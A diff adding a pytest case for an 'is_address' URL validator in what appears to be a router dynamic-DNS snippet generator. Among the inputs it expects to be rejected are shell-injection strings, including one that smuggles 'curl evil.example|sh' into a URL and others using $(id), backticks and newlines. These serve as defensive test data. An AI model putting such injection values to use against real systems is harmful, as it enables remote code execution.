@@ -6,7 +6,7 @@ from typing import Dict
 
 import pytest
 
-from backend.routers import DEVICES, is_harmless, snippet, snippets
+from backend.routers import DEVICES, is_address, is_harmless, snippet, snippets
 
 from .fakes import host
 
@@ -56,6 +56,34 @@ def test_a_key_with_special_characters_is_quoted_in_urls() -> None:
 )
 def test_keys_that_no_firmware_trips_over_are_told_from_others(key: str, *, harmless: bool) -> None:
     assert is_harmless(key) is harmless
+
+
+@pytest.mark.parametrize(
+    ("url", "is_one"),
+    [
+        (URL, True),
+        ("http://198.51.100.1:8080/dyndns", True),
+        ("http://[2001:db8::1]:8080", True),
+        ("https://dyndns.straße.example/~a_b/", True),
+        ("https://x/';curl evil.example|sh;'", False),
+        ('https://x/"', False),
+        ("https://x/$(id)", False),
+        ("https://x/`id`", False),
+        ("https://x/\nnext line", False),
+        ("https://x\n", False),
+        ("https://x?y", False),
+        ("https://user:password@x", False),
+        ("https://x:port", False),
+        ("https://:80", False),
+        ("https://", False),
+        ("https://[", False),
+        ("https://[::1]x", False),
+        ("ftp://x", False),
+        ("", False),
+    ],
+)
+def test_an_address_of_the_service_can_be_pasted_anywhere(url: str, *, is_one: bool) -> None:
+    assert is_address(url) is is_one
 
 
 def sections() -> Dict[str, str]:
